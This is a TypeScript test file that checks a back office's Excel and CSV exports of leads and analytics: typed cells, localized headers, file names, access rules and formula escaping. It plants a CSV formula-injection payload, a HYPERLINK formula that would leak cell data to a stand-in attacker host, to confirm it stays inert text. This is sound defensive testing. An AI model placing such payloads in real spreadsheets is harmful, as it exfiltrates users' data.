/**
 * Spreadsheets that open right (issue 47, item 6): the inbox's and the statistics' downloads, as an Excel workbook
 * read back with exceljs (typed cells: dates, numbers, phone numbers as text) and as CSV (the form Excel reads in
 * the operator's language), with their headers and words in that language, file names that name the view and the
 * day, hostile names that stay text, and the same session and role rules as every download.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import adminDe from "#app/content/admin/de.ts";
import adminEn from "#app/content/admin/en.ts";
import httpAnswersDe from "#app/content/http-answers/de.ts";
import httpAnswersEn from "#app/content/http-answers/en.ts";
import { berlinIso } from "#app/lib/contact/csv.ts";
import { berlinDay } from "#app/lib/analytics/days.ts";
import { analyticsReport } from "#app/lib/analytics/report.server.ts";
import { openSqliteDatabase } from "#app/lib/store/sqlite.server.ts";
import { startServer, type RunningServer } from "#test/server.ts";
import { adminCli, browser, signedInBrowser, storeRows, submitLead, type Browser } from "./back-office-support.ts";
import { rawRequest, validContact } from "./http-client.ts";

const PASSWORD = "correct horse battery staple";
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")';
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
let server: RunningServer;
let dataDir: string;
const ids: Record<string, string> = {};
let received: Record<string, Date> = {};
const today = () => berlinDay(new Date());

/** A download's bytes, with the browser's session: the workbook is binary, `rawRequest` reads text. */
async function download(visitor: Browser, path: string) {
  const response = await fetch(new URL(path, server.url), {
    headers: { "X-Forwarded-For": "203.0.113.90", ...(visitor.cookie ? { Cookie: visitor.cookie } : {}) },
  });
  return {
    status: response.status,
    type: response.headers.get("content-type"),
    disposition: response.headers.get("content-disposition"),
    bytes: Buffer.from(await response.arrayBuffer()),
  };
}

async function worksheetOf(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  expect(workbook.worksheets).toHaveLength(1);
  return workbook.worksheets[0]!;
}

const valuesOf = (row: ExcelJS.Row) => (row.values as unknown[]).slice(1);

/** A moment as the workbook keeps it: Berlin's wall-clock time in a zone-less date (exceljs reads it as UTC). */
const berlinWallClock = (date: Date) => new Date(`${berlinIso(date).slice(0, 19)}Z`);

/** A CSV's rows (no field of these tests spans lines), after its byte-order mark. */
function csvRows(text: string, separator: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  return text
    .slice(1)
    .trimEnd()
    .split("\r\n")
    .map((line) => line.split(separator));
}

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), "http-spreadsheets-"));
  server = await startServer({ DATA_DIR: dataDir, TRUST_PROXY: "1", CONTACT_RATE_LIMIT: "0" });
  for (const [email, role] of [
    ["anna@example.com", "owner"],
    ["eva@example.com", "editor"],
  ] as const) {
    const { code, output } = await adminCli("create", email, PASSWORD, { DATA_DIR: dataDir }, ["--role", role]);
    expect(code, output).toBe(0);
  }
  ids.hostile = await submitLead(server.url, {
    firstName: HOSTILE,
    lastName: "Weiß",
    company: "+SUM(1;2)",
    phone: "+49 171 9988776",
    message: "Bitte; -2+3 @heute",
  });
  ids.plain = await submitLead(server.url, { firstName: "Ben", lastName: "Ng", phone: "040 98765" }, "en");
  const [anna] = await storeRows<{ id: string }>(dataDir, "SELECT id FROM operators WHERE email = 'anna@example.com'");
  await storeRows(dataDir, "UPDATE contact_requests SET owner_id = ? WHERE id = ?", [anna!.id, ids.plain]);
  const stored = await storeRows<{ id: string; received_at: string }>(
    dataDir,
    "SELECT id, received_at FROM contact_requests",
  );
  received = Object.fromEntries(stored.map((row) => [row.id, new Date(row.received_at)]));
});
afterAll(async () => {
  await server.stop();
  await rm(dataDir, { recursive: true, force: true });
});

describe("the inbox as a workbook", () => {
  it("has typed cells and words in the operator's language, a bold frozen header, and names the view", async () => {
    const anna = await signedInBrowser(server.url, "anna@example.com", PASSWORD, "203.0.113.91");
    const german = await download(anna, "/de/admin/leads.xlsx?status=new");
    expect(german.status).toBe(200);
    expect(german.type).toBe(XLSX);
    expect(german.disposition).toBe(`attachment; filename="leads-neu-${today()}.xlsx"`);
    const sheet = await worksheetOf(german.bytes);
    const columns = adminDe.leads.csvColumns;
    expect(valuesOf(sheet.getRow(1))).toEqual([
      columns.id,
      columns.receivedAt,
      columns.language,
      columns.firstName,
      columns.lastName,
      columns.company,
      columns.email,
      columns.phone,
      columns.message,
      columns.privacyPolicy,
      columns.status,
      columns.owner,
    ]);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.getColumn(9).width).toBeGreaterThan(sheet.getColumn(3).width!);
    // Newest first: Ben Ng, then the hostile lead.
    expect(sheet.rowCount).toBe(3);
    const [ben, hostile] = [sheet.getRow(2), sheet.getRow(3)];
    expect(ben.getCell(1).value).toBe(ids.plain);
    expect(ben.getCell(2).type).toBe(ExcelJS.ValueType.Date);
    expect(ben.getCell(2).value).toEqual(berlinWallClock(received[ids.plain!]!));
    expect(ben.getCell(2).numFmt).toBe("dd.mm.yyyy hh:mm");
    expect(ben.getCell(3).value).toBe(adminDe.lead.languages.en);
    expect(ben.getCell(8).type).toBe(ExcelJS.ValueType.String);
    expect(ben.getCell(8).value).toBe("040 98765");
    expect(ben.getCell(10).value).toBe(adminDe.sheets.yes);
    expect(ben.getCell(11).value).toBe(adminDe.statuses.new);
    expect(ben.getCell(12).value).toBe("anna@example.com");
    // Hostile text is a string cell, formatted as text: never a formula, not even after editing it.
    expect(hostile.getCell(4).type).toBe(ExcelJS.ValueType.String);
    expect(hostile.getCell(4).value).toBe(HOSTILE);
    expect(hostile.getCell(4).numFmt).toBe("@");
    expect(hostile.getCell(6).value).toBe("+SUM(1;2)");
    expect(hostile.getCell(8).value).toBe("+49 171 9988776");
    expect(hostile.getCell(8).type).toBe(ExcelJS.ValueType.String);
    expect(hostile.getCell(3).value).toBe(adminDe.lead.languages.de);
    expect(hostile.getCell(12).value).toBeNull();
    for (const row of [ben, hostile])
      row.eachCell((cell) => expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula));

    const english = await download(anna, "/admin/leads.xlsx?owner=mine&q=ng");
    expect(english.disposition).toBe(`attachment; filename="leads-mine-search-${today()}.xlsx"`);
    const mine = await worksheetOf(english.bytes);
    expect(mine.name).toBe(adminEn.sheets.leadsSheet);
    expect(valuesOf(mine.getRow(1)).slice(0, 3)).toEqual(["ID", "Received (Berlin time)", "Language"]);
    expect(mine.rowCount).toBe(2);
    expect(mine.getCell("B2").numFmt).toBe("yyyy-mm-dd hh:mm");
    expect([mine.getCell("C2").value, mine.getCell("J2").value]).toEqual([
      adminEn.lead.languages.en,
      adminEn.sheets.yes,
    ]);

    const [audited] = await storeRows<{ details: string }>(
      dataDir,
      "SELECT details FROM audit_log WHERE action = 'export-xlsx' ORDER BY seq DESC LIMIT 1",
    );
    expect(JSON.parse(audited!.details)).toEqual({ count: 1, complete: 1, searched: 1, owner: "mine" });
  });

  it("is refused without a session, and to a role without the leads", async () => {
    const visitor = browser(server.url, "203.0.113.92");
    const anonymous = await download(visitor, "/de/admin/leads.xlsx");
    expect([anonymous.status, anonymous.bytes.toString()]).toEqual([401, httpAnswersDe.signInFirst]);
    const eva = await signedInBrowser(server.url, "eva@example.com", PASSWORD, "203.0.113.93");
    expect((await download(eva, "/admin/leads.xlsx")).status).toBe(403);
  });
});

describe("the inbox as CSV", () => {
  it("reads as dates, words and phone numbers in German Excel, formula-safe, named after the view", async () => {
    const anna = await signedInBrowser(server.url, "anna@example.com", PASSWORD, "203.0.113.94");
    const csv = await rawRequest(server.url, "/de/admin/leads.csv?owner=none", {
      headers: { Cookie: anna.cookie!, "X-Forwarded-For": "203.0.113.94" },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers["content-disposition"]).toBe(`attachment; filename="leads-nicht-zugewiesen-${today()}.csv"`);
    const [header, row, ...rest] = csvRows(csv.body, ";");
    expect(header!.slice(0, 3)).toEqual([
      adminDe.leads.csvColumns.id,
      adminDe.leads.csvColumns.receivedAt,
      adminDe.leads.csvColumns.language,
    ]);
    expect(rest).toEqual([]);
    const moment = berlinIso(received[ids.hostile!]!);
    expect(row).toEqual([
      ids.hostile,
      `${moment.slice(0, 10)} ${moment.slice(11, 19)}`,
      adminDe.lead.languages.de,
      // Formula signs at a cell's start keep their apostrophe; the phone number is text without one.
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Klick"")"`,
      "Weiß",
      `"'+SUM(1`,
      `2)"`,
      validContact.email,
      `"=""+49 171 9988776"""`,
      `"Bitte`,
      `' -2+3 @heute"`,
      adminDe.sheets.yes,
      adminDe.statuses.new,
      "",
    ]);
    expect(csv.body).not.toContain("'+49");
  });

  it("is comma-separated in English, with English words", async () => {
    const anna = await signedInBrowser(server.url, "anna@example.com", PASSWORD, "203.0.113.95");
    const csv = await rawRequest(server.url, "/admin/leads.csv?owner=mine", {
      headers: { Cookie: anna.cookie!, "X-Forwarded-For": "203.0.113.95" },
    });
    expect(csv.headers["content-disposition"]).toBe(`attachment; filename="leads-mine-${today()}.csv"`);
    const [header, row] = csvRows(csv.body, ",");
    expect(header).toEqual(Object.values(adminEn.leads.csvColumns));
    expect(row!.slice(2, 4)).toEqual([adminEn.lead.languages.en, "Ben"]);
    expect(row![7]).toBe(`"=""040 98765"""`);
    expect(row!.slice(-3)).toEqual([adminEn.sheets.yes, adminEn.statuses.new, "anna@example.com"]);
  });
});

describe("the statistics as workbooks and CSV", () => {
  const page = {
    Accept: "text/html,application/xhtml+xml,*/*;q=0.8",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  };

  beforeAll(async () => {
    // Three visitors come straight to the English home page, one of them asks for a demo: a third converted. A
    // fourth arrives on a campaign link whose name is a formula.
    for (const address of ["198.51.100.1", "198.51.100.2", "198.51.100.3"])
      expect((await rawRequest(server.url, "/", { headers: { ...page, "X-Forwarded-For": address } })).status).toBe(
        200,
      );
    const asked = await rawRequest(server.url, "/api/contact?lang=en", {
      method: "POST",
      headers: { ...page, "X-Forwarded-For": "198.51.100.1", "Content-Type": "application/json" },
      body: JSON.stringify(validContact),
    });
    expect(asked.status).toBe(201);
    const campaign = encodeURIComponent(HOSTILE);
    await rawRequest(server.url, `/de/about-us?utm_source=mail&utm_campaign=${campaign}`, {
      headers: { ...page, "X-Forwarded-For": "198.51.100.4", Referer: "https://mail.example/inbox" },
    });
    // Written in batches: waited for until all four visitors and the request are counted.
    const day = today();
    for (let tries = 0; ; tries++) {
      const db = openSqliteDatabase(join(dataDir, "site.db"));
      const { totals } = await analyticsReport(db.sql, { from: day, to: day }, { now: new Date(), retentionDays: 90 });
      await db.close();
      if (totals.visitors === 4 && totals.conversions === 3) break;
      if (tries > 80) throw new Error(`visits not counted: ${JSON.stringify(totals)}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  });

  it("writes days as dates, counts and rates as numbers, codes as words, and names the table and period", async () => {
    const eva = await signedInBrowser(server.url, "eva@example.com", PASSWORD, "203.0.113.96");
    const sources = await download(eva, "/de/admin/analytics.xlsx?table=sources&range=today");
    expect(sources.status).toBe(200);
    expect(sources.type).toBe(XLSX);
    expect(sources.disposition).toBe(`attachment; filename="statistik-quellen-${today()}.xlsx"`);
    const sheet = await worksheetOf(sources.bytes);
    expect(sheet.name).toBe(adminDe.analytics.tables.sources.heading);
    const columns = adminDe.analytics.columns;
    expect(valuesOf(sheet.getRow(1))).toEqual([
      columns.source,
      columns.visitors,
      columns.formVisitors,
      columns.conversions,
      columns.conversionRate,
    ]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(valuesOf(sheet.getRow(2))).toEqual([adminDe.analytics.direct, 3, 3, 1, 0.3333]);
    expect(sheet.getCell("B2").type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell("E2").numFmt).toBe("0.0%");

    const days = await worksheetOf((await download(eva, "/admin/analytics.xlsx?table=perDay&range=7")).bytes);
    expect(days.rowCount).toBe(8);
    expect(days.getCell("A8").type).toBe(ExcelJS.ValueType.Date);
    expect(days.getCell("A8").value).toEqual(new Date(`${today()}T00:00:00Z`));
    expect(days.getCell("B8").value).toBe(4);

    const campaigns = await worksheetOf(
      (await download(eva, "/admin/analytics.xlsx?table=campaigns&range=today")).bytes,
    );
    expect(campaigns.getCell("C2").type).toBe(ExcelJS.ValueType.String);
    expect(String(campaigns.getCell("C2").value)).toMatch(/^=hyperlink\(/);

    const devices = await worksheetOf((await download(eva, "/admin/analytics.xlsx?table=devices&range=today")).bytes);
    expect(valuesOf(devices.getRow(2)).slice(0, 2)).toEqual([
      adminDe.analytics.devices.desktop,
      adminDe.analytics.browsers.firefox,
    ]);
  });

  it("writes its CSV as the inbox's: byte-order mark, the reader's separator and header, rates rounded", async () => {
    const eva = await signedInBrowser(server.url, "eva@example.com", PASSWORD, "203.0.113.97");
    const german = await eva.get("/de/admin/analytics.csv?table=sources&range=today");
    expect(german.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(german.headers["content-disposition"]).toBe(`attachment; filename="statistik-quellen-${today()}.csv"`);
    const columns = adminDe.analytics.columns;
    expect(csvRows(german.body, ";")).toEqual([
      [columns.source, columns.visitors, columns.formVisitors, columns.conversions, columns.conversionRate],
      [adminDe.analytics.direct, "3", "3", "1", `"0,3333"`],
      ["mail.example", "1", "0", "0", "0"],
    ]);
    const english = await eva.get("/admin/analytics.csv?table=languages&range=today&source=");
    expect(english.headers["content-disposition"]).toBe(
      `attachment; filename="statistics-languages-filtered-${today()}.csv"`,
    );
    expect(csvRows(english.body, ",")).toEqual([
      ["Language", "Visitors", "Opened the home page (with the form)", "Demo requests", "Conversion rate"],
      [adminEn.analytics.languages.en, "3", "3", "1", "0.3333"],
    ]);
    const campaigns = await eva.get("/admin/analytics.csv?table=campaigns&range=today");
    expect(csvRows(campaigns.body, ",")[1]![2]).toMatch(/^"'=hyperlink\(/);
  });

  it("is refused without a session, and names the tables there are for one that is not", async () => {
    const visitor = browser(server.url, "203.0.113.98");
    const anonymous = await download(visitor, "/admin/analytics.xlsx?table=pages");
    expect([anonymous.status, anonymous.bytes.toString()]).toEqual([401, httpAnswersEn.signInFirst]);
    const unknown = await download(
      await signedInBrowser(server.url, "eva@example.com", PASSWORD, "203.0.113.99"),
      "/admin/analytics.xlsx?table=visitors",
    );
    expect([unknown.status, unknown.bytes.toString()]).toEqual([
      400,
      adminEn.analytics.csvUnknownTable.replace(
        "{tables}",
        "perDay, pages, entries, languages, sources, campaigns, devices, notFound",
      ),
    ]);
  });
});
